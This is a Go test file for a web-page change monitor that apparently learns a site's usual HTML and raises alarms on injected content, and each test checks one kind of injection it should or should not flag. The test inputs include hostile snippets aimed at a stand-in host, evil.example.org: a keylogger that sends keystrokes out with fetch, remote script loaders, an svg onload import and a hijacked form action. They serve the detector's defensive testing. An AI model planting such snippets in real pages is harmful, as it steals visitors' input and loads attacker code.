package htmlstats

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// Each way in is told from a steady page by itself.
func TestWaysIn(t *testing.T) {
	t.Parallel()
	steady := site(20, seeded(1))
	w := learned(t, steady)
	for code, attacked := range map[string]string{
		"new_overlay":      before(steady, "</footer>", `<i style="position: fixed; INSET:0; z-index: 9999"></i>`),
		"new_opening":      before(steady, "<nav>", "<picture><source srcset=/flag.webp><img src=/flag.png></picture>"),
		"new_frame_host":   before(steady, "</main>", "<object data=https://evil.example.org/></object>"),
		"new_host_in_code": before(steady, "</body>", "<script>onkeyup = e => fetch('https://evil.example.org/?' + e.key)</script>"),
		"new_loader":       before(steady, "</head>", "<script>let s = document.createElement('script'); s.src = '//evil.example.org/x.js'; document.head.append(s)</script>"),
		"new_form_target":  before(steady, "</form>", "<button formaction=//evil.example.org>Go</button>"),
		"other_title":      strings.Replace(steady, "<title>News", "<title>Site for sale", 1),
		"error_words":      before(steady, "<nav>", "<br><b>Warning</b>: Undefined variable $page in <b>index.php</b><br>"),
	} {
		if report := w.probe(attacked); !report.Changed || !slices.Contains(codes(report), code) {
			t.Errorf("no %s: changed is %t, %s", code, report.Changed, messages(report))
		}
	}
	for name, attacked := range map[string]string{
		"embed":  before(steady, "</main>", "<embed src=//evil.example.org/>"),
		"srcdoc": before(steady, "</main>", "<iframe srcdoc='&lt;script>x()&lt;/script>'></iframe>"),
		"onload": before(steady, "</main>", `<svg onload="import('//evil.example.org/x.js')"></svg>`),
		"turned": before(steady, "</body>", `<script>setTimeout("x".split("").reverse().join(""))</script>`),
	} {
		if report := w.probe(attacked); !report.Changed || report.Findings[0].Points < grave-1.5 {
			t.Errorf("%s: changed is %t, %s", name, report.Changed, messages(report))
		}
	}
}

// A page that never closes its elements is cut when it ends where it never did.
func TestCutWithoutEndTag(t *testing.T) {
	t.Parallel()
	open := strings.NewReplacer("</body></html>", "", "</main><footer>", "<footer>").Replace(site(40, seeded(1)))
	w := newWatch(t, "")
	for range 5 {
		w.calm(open)
	}
	if report := w.probe(open[:len(open)*9/10]); !report.Changed || !slices.Contains(codes(report), "cut_short") {
		t.Errorf("changed is %t, %s", report.Changed, messages(report))
	}
	w.calm(open + "</body></html>")
}

// What pages do that nobody attacks.
func TestHarmless(t *testing.T) {
	t.Parallel()
	var there, elsewhere strings.Builder
	for i := range 40 {
		fmt.Fprintf(&there, "<a href=https://old.example.org/%d>%d</a> ", i, i)
		fmt.Fprintf(&elsewhere, "<a href=https://new.example.com/%d>%d</a> ", i, i)
	}
	for name, pages := range map[string][2]string{
		"retitled":                 {"<title>Garden news</title>", "<title>Garden centre, all the news</title>"},
		"links moved":              {there.String(), elsewhere.String()},
		"picture of its own below": {"The end", "The end<img src=/sponsor.png>"},
		"JSON in a script":         {"start()", `start("{\"a\":[\"` + strings.Repeat(`\u003cb\u003e, `, 100) + `\"]}")`},
	} {
		body := strings.Replace(site(20, seeded(1)), "<title>News</title>", "<title>Garden news</title>"+there.String(), 1)
		if changed := strings.Replace(body, pages[0], pages[1], 1); changed == body {
			t.Errorf("%s: nothing changed", name)
		} else if report := learned(t, body).probe(changed); report.Changed {
			t.Errorf("%s: an alarm: %s", name, messages(report))
		}
	}
}

// Code that a site writes into its pages is new, but hides nothing.
func TestHonestCode(t *testing.T) {
	t.Parallel()
	bundle := `!function(){"use strict";var g=Function("return this")();` + strings.Repeat(`g.a("/path",{"text":"words & more, of a page"});`, 1000) +
		`g.f=function(x){return decodeURIComponent(x).split(".")}}()`
	data := `push("{\"a\":[\"` + strings.Repeat(`\u003cb\u003e, `, 100) + `\"]}")`
	steady := site(20, seeded(1))
	for _, code := range []string{bundle, data} {
		got := codes(learned(t, steady).probe(before(steady, "</body>", "<script>"+code+"</script>")))
		if !slices.Contains(got, "new_inline_script") || slices.Contains(got, "strange_script") {
			t.Errorf("%.60s: %v", code, got)
		}
	}
}

// An alarm about security that comes and goes is told twice. Then it is a
// known state, as long as there is no other news in it.
func TestSecurityVariant(t *testing.T) {
	t.Parallel()
	usual := site(60, seeded(1))
	other := before(site(12, seeded(2)), "</main>", "<form action=https://pay.example.org></form>")
	w := learned(t, usual)
	for range knownAfter {
		w.alarmed(other)
		w.calm(usual)
	}
	if got := codes(w.check(htmlPage(other))); !slices.Equal(got, []string{"known_variant"}) {
		t.Errorf("the next time gives %v", got)
	}
	w.calm(usual)
	w.alarmed(attacks["script"].do(other))
	w.alarmed(strings.Replace(other, "pay.example.org", "evil.example.net", 1))
}

// A page that alarms again and again is followed, and what is new on it stays
// news.
func TestStartAnewKeepsWhatIsKnown(t *testing.T) {
	t.Parallel()
	w := learned(t, site(20, seeded(1)))
	var last string
	for i := range relearnAfter {
		last = site(60+60*(i%2), seeded(uint64(i)))
		w.alarmed(last)
	}
	for _, name := range []string{"script", "frame", "phishing", "title"} {
		if report := w.probe(attacks[name].do(last)); !report.Changed {
			t.Errorf("%s is not seen: %s", name, messages(report))
		}
	}
}

// Alarms about security do not count towards starting anew.
func TestSecurityDoesNotStartAnew(t *testing.T) {
	t.Parallel()
	steady := site(20, seeded(1))
	w := learned(t, steady)
	for range 3 * relearnAfter {
		w.alarmed(attacks["script"].do(steady))
	}
	w.alarmed(site(90, seeded(3)))
	w.alarmed(site(300, seeded(4)))
}
